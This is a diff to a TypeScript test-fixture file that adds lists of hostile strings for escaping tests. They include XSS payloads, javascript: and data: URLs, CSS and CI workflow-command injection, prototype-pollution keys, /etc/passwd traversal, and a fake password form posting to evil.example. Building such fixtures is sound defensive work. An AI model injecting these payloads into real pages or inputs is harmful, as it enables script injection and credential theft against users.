@@ -92,3 +92,55 @@ export const hostileStrings: readonly string[] = [
   `\`${'x'.repeat(400)}\``,
   'a`'.repeat(200),
 ]
+
+// biome-ignore-start lint/suspicious/noTemplateCurlyInString: what others fill in
+/** Strings that would run code or break a page if they were not escaped. */
+export const hostileTexts: readonly string[] = [
+  '<script>window.hacked=1</script>',
+  '"><img src=x onerror="window.hacked=1">',
+  "' onmouseover='window.hacked=1",
+  '<svg onload=window.hacked=1><style>body{display:none}</style>',
+  '[x](javascript:window.hacked=1) <javascript:window.hacked=1> ![x](javascript:window.hacked=1)',
+  '</title></head></style></code></pre></body></html><script>window.hacked=1</script>',
+  '<!--',
+  '{window.hacked=1} ${window.hacked=1} <X onClick={()=>{window.hacked=1}}/>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
+  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#x3C;script>',
+  '`<script>window.hacked=1</script>` ```\n<script>window.hacked=1</script>\n```',
+  '<a href="data:text/html,<script>window.hacked=1</script>" style="position:fixed;inset:0">x</a>',
+  '\u202e\u0000\u2028__proto__ constructor',
+  '../../../etc/passwd?x#y',
+  'javascript:window.hacked=1',
+]
+
+// biome-ignore-end lint/suspicious/noTemplateCurlyInString: what others fill in
+
+/** All of them, and what ends elements, annotations or values. */
+export const everyHostileText: readonly string[] = [
+  ...hostileStrings,
+  ...hostileTexts,
+  '\u001b[31mred\u001b[0m\r\n::error file=x::pwned\u202e ##[add-mask]x',
+  '\n::error::pwned',
+  '<script>alert(1)</script>',
+  '</failure></testcase>]]>&amp;"\'',
+  '@octocat #1 `code` [link](javascript:alert(1)) | <img src=x onerror=alert(1)>',
+  '\ud800\uffff\0',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\nscript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'vbscript:x',
+  'data:text/html,<script>alert(1)</script>',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'file:///etc/passwd',
+  '"><script>alert(1)</script>',
+  "' onmouseover='alert(1)",
+  '</style><script>alert(1)</script>',
+  'red;}body{display:none',
+  'url(https://evil.example/x)',
+  'expression(alert(1))',
+  '</textarea><img src=x onerror=alert(1)>',
+  '{{constructor}}',
+  '__proto__',
+]
